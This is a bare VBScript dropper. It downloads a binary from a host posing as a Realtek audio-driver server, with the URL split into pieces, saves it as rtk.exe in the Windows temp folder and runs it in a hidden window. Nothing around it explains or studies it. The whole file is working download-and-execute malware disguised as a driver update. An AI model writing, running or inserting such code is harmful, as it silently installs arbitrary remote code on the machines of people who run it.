Dim http, stream, target
target = CreateObject("Scripting.FileSystemObject").GetSpecialFolder(2) & "\rtk.exe"
Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", "https://audio-driver.invalid/" & "realtek" & "win.bin", False
http.Send
Set stream = CreateObject("ADODB.Stream")
stream.Type = 1
stream.Open
stream.Write http.ResponseBody
stream.SaveToFile target, 2
CreateObject("WScript.Shell").Run target, 0, False
